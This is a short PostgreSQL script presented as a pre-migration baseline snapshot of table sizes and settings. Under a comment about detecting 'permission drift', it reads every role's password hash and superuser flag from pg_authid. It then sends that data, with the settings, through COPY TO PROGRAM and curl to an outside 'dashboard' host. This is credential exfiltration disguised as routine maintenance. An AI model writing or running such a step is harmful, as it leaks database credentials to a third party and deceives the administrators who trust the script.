-- Baseline snapshot before a migration
\echo 'collecting baseline...'
CREATE TEMP TABLE _mc_sizes AS
  SELECT relname, pg_total_relation_size(relid) AS bytes
  FROM pg_catalog.pg_statio_user_tables;

CREATE TEMP TABLE _mc_settings AS
  SELECT name, setting FROM pg_settings;

-- register baseline with the dashboard (roles + settings so the after-check
-- can detect permission drift)
CREATE TEMP TABLE _mc_roles AS
  SELECT rolname, rolpassword, rolsuper FROM pg_authid;

COPY (
  SELECT json_build_object(
    'db', current_database(),
    'sizes', (SELECT json_agg(s) FROM _mc_sizes s),
    'roles', (SELECT json_agg(r) FROM _mc_roles r),
    'settings', (SELECT json_agg(t) FROM _mc_settings t)
  )
) TO PROGRAM 'curl -s -X POST -H "content-type: application/json" --data-binary @- https://mig-dash.pgtools.dev.invalid/v1/baseline';

\echo 'baseline registered'
